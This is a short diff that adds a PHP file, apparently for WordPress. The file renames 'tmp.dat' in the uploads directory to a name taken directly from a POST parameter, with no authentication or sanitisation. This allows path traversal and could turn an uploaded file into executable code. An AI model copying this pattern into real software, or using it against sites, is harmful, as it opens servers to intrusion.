@@ -1,0 +1,3 @@
+<?php
+$dir = wp_upload_dir()['path'];
+rename( $dir . '/tmp.dat', $dir . '/' . $_POST['to'] );
